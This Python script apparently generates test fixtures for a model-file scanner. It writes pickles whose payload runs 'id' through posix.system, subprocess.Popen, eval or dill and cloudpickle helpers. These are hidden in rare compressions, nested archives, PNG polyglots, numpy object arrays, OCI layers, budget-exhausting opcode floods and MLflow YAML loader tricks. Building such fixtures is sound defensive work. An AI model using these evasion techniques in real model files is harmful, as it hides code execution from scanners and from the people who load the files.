"""Writes files that hide what they run from those who read them otherwise than a loader does: in containers and compressions that few read, behind
what uses budgets up, by makers that give a global for a name. Nothing is loaded, and the commands are harmless.

    python malicious_tricks.py FOLDER        Python 3.11 with numpy, zstandard, lz4
"""

import bz2
import gzip
import io
import json
import lzma
import os
import struct
import sys
import tarfile
import zipfile
import zlib

import lz4.frame
import numpy as np
import zstandard

folder = os.path.join(sys.argv[1], "malicious")


def put(name, data):
    at = os.path.join(folder, name)
    os.makedirs(os.path.dirname(at), exist_ok=True)
    with open(at, "wb") as f:
        f.write(data.encode() if isinstance(data, str) else data)


def s(text):
    b = text.encode()
    return b"\x8c" + bytes([len(b)]) + b


def g(module, name):
    return s(module) + s(name) + b"\x93"


def call(what, *args):
    return what + b"(" + b"".join(args) + b"tR"


def made(module, name, **state):
    return g(module, name) + b")\x81}(" + b"".join(s(k) + v for k, v in state.items()) + b"ub"


def whole(*parts):
    return b"\x80\x04" + b"".join(parts) + b"."


evil = whole(call(g("posix", "system"), s("id")))
good = whole(b"](K\x01K\x02e")


def zipped(*members):
    b = io.BytesIO()
    with zipfile.ZipFile(b, "w") as z:
        for name, data in members:
            z.writestr(name, data)
    return b.getvalue()


def tarred(*members, **how):
    b = io.BytesIO()
    with tarfile.open(fileobj=b, mode="w", **how) as t:
        for name, data in members:
            info = tarfile.TarInfo(name)
            info.size = len(data)
            t.addfile(info, io.BytesIO(data))
    return b.getvalue()


# Compressions as few write them.
def crc32c(data):
    c = 0xFFFFFFFF
    for byte in data:
        c ^= byte
        for _ in range(8):
            c = c >> 1 ^ (0x82F63B78 if c & 1 else 0)
    c ^= 0xFFFFFFFF
    return ((c >> 15 | c << 17 & 0xFFFFFFFF) + 0xA282EAD8) & 0xFFFFFFFF


def snappy(data):
    chunk = struct.pack("<I", crc32c(data)) + data
    return b"\xff\x06\0\0sNaPpY" + b"\x01" + len(chunk).to_bytes(3, "little") + chunk


def lzip(data):
    stream = lzma.compress(data, lzma.FORMAT_RAW, filters=[{"id": lzma.FILTER_LZMA1, "dict_size": 1 << 16}])
    return b"LZIP\x01\x10" + stream + struct.pack("<IQQ", zlib.crc32(data), len(data), len(stream) + 26)


def window(bits, data):
    z = zlib.compressobj(6, zlib.DEFLATED, bits)
    return z.compress(data) + z.flush()


def large_lzma(data, dictionary):
    alone = lzma.compress(data, lzma.FORMAT_ALONE)
    return alone[:1] + struct.pack("<I", dictionary) + alone[5:]


def large_zstd(data, window_log):
    parameters = zstandard.ZstdCompressionParameters(window_log=window_log, enable_ldm=True)
    c = zstandard.ZstdCompressor(compression_params=parameters).compressobj()
    return c.compress(data) + c.flush()


def raw(data):
    z = zlib.compressobj(9, zlib.DEFLATED, -15)
    return z.compress(data) + z.flush()


def header(flags, fields):
    return b"\x1f\x8b\x08" + bytes([flags]) + bytes(6) + fields + gzip.compress(evil)[10:]


xz = lambda *filters: lzma.compress(evil, lzma.FORMAT_XZ, filters=[*filters, {"id": lzma.FILTER_LZMA2, "preset": 6}])
for name, data in {
    "snappy": snappy(evil), "lzip": lzip(evil), "lzip.second": lzip(good) + lzip(evil), "deflate": raw(evil), "lzma.large": large_lzma(evil, 1 << 30), "lzma.largest": large_lzma(evil, 0xFFFFFFFF), "zstd.large": large_zstd(evil * 50, 28),
    "xz.delta": xz({"id": lzma.FILTER_DELTA, "dist": 4}), "xz.x86": xz({"id": lzma.FILTER_X86}), "xz.arm": xz({"id": lzma.FILTER_ARM}), "xz.padded": lzma.compress(good) + bytes(8) + lzma.compress(evil), "xz.crc64": lzma.compress(evil, check=lzma.CHECK_SHA256),
    **{f"zlib.window{w}": window(w, evil) for w in range(9, 15)}, "gz.extra": header(4, b"\x06\0BC\2\0ab"), "gz.long": header(8, b"n" * 5000 + b"\0"), "gz.all": header(31, b"\x02\0ab" + b"name\0" + b"comment\0" + b"\0\0"),
    "gz.zeros": gzip.compress(good) + bytes(512) + gzip.compress(evil), "bz2.gz.xz": bz2.compress(gzip.compress(lzma.compress(evil))), "zstd.skipped": zstandard.compress(good) + b"\x5f\x2a\x4d\x18\x04\0\0\0junk" + zstandard.compress(evil),
    "lz4.linked": lz4.frame.compress(evil * 9, block_linked=True, content_checksum=True), "lz4.skipped": b"\x50\x2a\x4d\x18\x04\0\0\0junk" + lz4.frame.compress(evil), "lz4.unsized": lz4.frame.compress(evil, store_size=False), "zstd.unsized": zstandard.ZstdCompressor(write_content_size=False).compress(evil),
}.items():
    put(f"packed.{name}/model.pkl", data)
    put(f"packed.{name}/inside.zip", zipped(("model.bin", data)))


# Containers.
def ar(*members):
    out = b"!<arch>\n"
    for name, data in members:
        out += b"%-16s%-12d%-6d%-6d%-8s%-10d`\n" % (name.encode() + b"/", 0, 0, 0, b"100644", len(data)) + data + b"\n" * (len(data) % 2)
    return out


def cpio(*members):
    out = b""
    for name, data in (*members, ("TRAILER!!!", b"")):
        fields = (1, 0o100644, 0, 0, 1, 0, len(data), 0, 0, 0, 0, len(name) + 1, 0)
        out += b"070701" + b"".join(b"%08x" % f for f in fields) + name.encode() + b"\0"
        out += bytes(-len(out) % 4) + data
        out += bytes(-len(out) % 4)
    return out


def zip_by(method, data, plain):
    """A zip file with one member, compressed by a method that Python's zipfile does not write."""
    name, sizes = b"model.pkl", struct.pack("<III", zlib.crc32(plain), len(data), len(plain))
    local = b"PK\3\4" + struct.pack("<HHHHH", 63, 0, method, 0, 33) + sizes + struct.pack("<HH", len(name), 0) + name + data
    central = b"PK\1\2" + struct.pack("<HHHHHH", 63, 63, 0, method, 0, 33) + sizes + struct.pack("<HHHHHII", len(name), 0, 0, 0, 0, 0, 0) + name
    return local + central + b"PK\5\6" + struct.pack("<HHHHIIH", 0, 0, 1, 1, len(central), len(local), 0)


def chunk(name, data):
    return struct.pack(">I", len(data)) + name + data + struct.pack(">I", zlib.crc32(name + data))


png = b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", 1, 1, 8, 0, 0, 0, 0)) + chunk(b"IDAT", zlib.compress(b"\0\0")) + chunk(b"IEND", b"")
for name, data in {
    "ar": ar(("good.pkl", good), ("model.pkl", evil)), "cpio": cpio(("good.pkl", good), ("model.pkl", evil)), "cpio.gz": gzip.compress(cpio(("model", evil))), "tar.zst": zstandard.compress(tarred(("model", evil))), "tar.lz4": lz4.frame.compress(tarred(("model", evil))),
    "tar.gnu": tarred(("d/" * 90 + "model", evil), format=tarfile.GNU_FORMAT), "zip.zstd": zip_by(93, zstandard.compress(evil), evil), "zip.xz": zip_by(95, lzma.compress(evil), evil), "png.behind": png + evil, "png.zip": png + zipped(("a.pkl", evil)),
    "zip.tar.zip": zipped(("a", tarred(("b", zipped(("c", evil)))))), "npz.objects": zipped(("a.npy", (lambda b: (np.save(b, np.arange(3)), b.getvalue())[1])(io.BytesIO())), ("b.npy", b"\x93NUMPY\x02\0\x76\0\0\0" + b"{'descr': '|O', 'fortran_order': True, 'shape': (1, 1), }".ljust(117) + b"\n" + evil)),
    "npy.record": b"\x93NUMPY\x03\0\x76\0\0\0" + b"{'descr': [('a', '<i4'), ('b', [('c', '|O')])], 'fortran_order': False, 'shape': (1,), }".ljust(117) + b"\n" + evil,
}.items():
    put(f"wrapped.{name}/model.bin", data)
digest = "0" * 64
layer = gzip.compress(tarred(("models/model.pkl", evil)))
put("wrapped.oci/layout/oci-layout", json.dumps({"imageLayoutVersion": "1.0.0"}))
put("wrapped.oci/layout/index.json", json.dumps({"schemaVersion": 2, "manifests": [{"mediaType": "application/vnd.oci.image.manifest.v1+json", "digest": "sha256:" + digest, "size": 2}]}))
put("wrapped.oci/layout/blobs/sha256/" + digest, layer)

# Behind what uses a budget up: names are looked up there as well.
for name, data in {
    "marks": b"(" * (2 << 20 | 9), "memo": b"N" + b"\x94" * 20_000, "empty": b"]0" * 100_000, "names": b"".join(b"cnumpy\na%d\n0" % n for n in range(17_000)), "deep": b"](" * 100_000,
}.items():
    put(f"budget.{name}/model.pkl.gz", gzip.compress(b"\x80\x04" + data + evil[2:], 1))
    put(f"budget.{name}/import.pkl.gz", gzip.compress(b"\x80\x02" + data + b"cposix\nsystem\n.", 1))

# What stands behind more bytes than a member's ratio allows is found; the member is not complete.
bulk = b"\x80\x04B" + struct.pack("<I", 32 << 20) + bytes(32 << 20) + b"0" + evil[2:]
put("budget.ratio/model.pkl.zst", zstandard.compress(bulk))
put("budget.ratio/model.pkl.xz", lzma.compress(bulk, preset=1))

# Makers that give a global for a name, and callables that are kept to be called.
partial = lambda f, *args: g("functools", "partial") + f + b"\x85R(" + f + b"(" + b"".join(args) + b"t}Ntb)R"
dill = lambda maker, *args: call(g("dill._dill", maker), *args)
maker = call(g("builtins", "getattr"), g("subprocess", "Popen"), s("__new__"))
module = lambda name: call(g("cloudpickle.cloudpickle", "subimport"), s(name))
for name, data in {
    "partial": partial(g("posix", "system"), s("id")), "partial.class": partial(maker, g("subprocess", "Popen"), s("id")), "partial.twice": partial(g("functools", "partial"), g("posix", "system"), s("id")),
    "partial.state": b"]" + g("functools", "partial") + g("numpy", "mean") + b"\x85R(" + g("posix", "system") + b"(" + s("id") + b"t}Ntb)Ra", "partial.kept": b"]" + g("functools", "partial") + g("numpy", "mean") + b"\x85R(" + g("builtins", "getattr") + b"(" + g("numpy", "ndarray") + s("tofile") + b"t}Ntba",
    "partial.keyword": partial(g("numpy.random._pickle", "__randomstate_ctor"), s("a")).replace(b"}N", b"}" + s("bit_generator_ctor") + g("sklearn.datasets._svmlight_format_io", "dump_svmlight_file") + b"sN"),
    "tuple": call(dill("_create_namedtuple", s("system"), b"]", s("os")), s("id")), "tuple.dots": call(dill("_create_namedtuple", s("path.os.system"), b"]", s("posixpath")), s("id")), "type": call(dill("_load_type", s("FunctionType")), b"N", b"}"),
    "eval": dill("_eval_repr", s("__import__('os').system('id')")), "method": dill("_getattr", g("builtins", "str"), s("x"), s("' ' '__import__(\"os\").system(\"id\")' '")), "module": module("os"), "module.attribute": call(call(g("builtins", "getattr"), module("numpy"), s("load")), s("a.npy")),
    "module.filled": module("numpy") + b"}" + s("load") + g("posix", "system") + b"sb", "getter": call(call(g("operator", "attrgetter"), s("system")), module("os")), "getter.frame": b"]" + call(g("operator", "attrgetter"), s("gi_frame.f_globals")) + b"a", "methodcaller": call(g("operator", "methodcaller"), s("system"), s("id")),
    "npzfile": call(g("builtins", "dict"), made("numpy.lib._npyio_impl", "NpzFile", _files=b"]" + s("a.npy") + b"a", files=b"]" + s("a") + b"a", allow_pickle=b"\x88", zip=made("zipfile", "ZipFile", filename=s("a.npz")))),
    "npzfile.list": call(g("builtins", "list"), made("numpy.lib.npyio", "NpzFile", files=b"]" + s("a") + b"a", allow_pickle=b"\x88")),
}.items():
    put(f"named.{name}/model.pkl", whole(data))
    put(f"named.{name}/old.pkl", b"\x80\x02" + data + b".")

# What a folder of MLflow says by merges and aliases of YAML.
for name, text in {
    "merge": "base: &base\n  loader_module: subprocess\nflavors:\n  python_function:\n    <<: *base\n    model_path: model.pkl\n", "merge.list": "a: &a {loader_module: mlflow.sklearn}\nb: &b {loader_module: evilmod}\nflavors:\n  python_function:\n    <<: [*b, *a]\n    model_path: model.pkl\n",
    "alias": "m: &m os\nflavors:\n  python_function:\n    loader_module: *m\n    model_path: model.pkl\n", "twice": "flavors:\n  python_function:\n    loader_module: mlflow.sklearn\n    loader_module: evilmod\n    model_path: model.pkl\n",
    "flow": '{"flavors": {"python_function": {"loader\\u005fmodule": "evilmod", "model_path": "model.pkl"}}}\n', "tag": "flavors:\n  python_function:\n    !!str loader_module: !!str evilmod\n    model_path: model.pkl\n", "block": "flavors:\n  python_function:\n    ? loader_module\n    : >-\n      evilmod\n    model_path: model.pkl\n",
}.items():
    put(f"mlflow.yaml.{name}/MLmodel", text)
    put(f"mlflow.yaml.{name}/model.pkl", good)
print(sum(len(files) for _, _, files in os.walk(folder)), "files")
